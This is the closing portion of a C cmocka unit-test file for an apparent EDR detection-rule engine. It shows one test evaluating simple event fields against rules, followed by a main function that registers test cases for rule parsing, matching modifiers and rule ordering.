	assert_string_equal(edr_rule__title(out[0]), "R49");
	n = eval_kv(rs, PC, EV("Image=/usr/bin/bash", "User=root"), out, 64);
	assert_int_equal(n, 0);
	n = eval_kv(rs, PC, EV("CommandLine=zz"), out, 64);
	assert_int_equal(n, 1);
	assert_string_equal(edr_rule__title(out[0]), "NotNot");
	edr_ruleset__free(rs);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_map_and_list),
		cmocka_unit_test(test_list_of_maps),
		cmocka_unit_test(test_keywords),
		cmocka_unit_test(test_multi_document_and_accessors),
		cmocka_unit_test(test_precedence),
		cmocka_unit_test(test_of),
		cmocka_unit_test(test_equality_and_case),
		cmocka_unit_test(test_contains_starts_ends),
		cmocka_unit_test(test_wildcards_and_escapes),
		cmocka_unit_test(test_re),
		cmocka_unit_test(test_base64),
		cmocka_unit_test(test_windash),
		cmocka_unit_test(test_numbers_bool_cidr),
		cmocka_unit_test(test_exists_null_fieldref),
		cmocka_unit_test(test_event_bounds),
		cmocka_unit_test(test_all_matches_in_load_order),
		cmocka_unit_test(test_samples_selftest),
		cmocka_unit_test(test_shared_patterns),
		cmocka_unit_test(test_trigger_sets),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
